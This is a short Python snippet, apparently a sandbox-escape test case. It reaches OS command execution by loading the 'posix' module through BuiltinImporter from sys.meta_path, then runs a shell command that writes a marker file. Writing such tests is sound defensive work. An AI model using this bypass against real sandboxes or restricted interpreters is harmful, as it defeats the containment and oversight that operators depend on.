# The first finder of sys.meta_path loads posix.
# breach: marker
import sys
finder = next(f for f in sys.meta_path if getattr(f, "__name__", "") == "BuiltinImporter")
if hasattr(finder, "load_module"):  # up to 3.14
    posix = finder.load_module("posix")
else:
    posix = finder.create_module(finder.find_spec("posix"))
    finder.exec_module(posix)
posix.system(f"echo > {MARKER_FILE}")
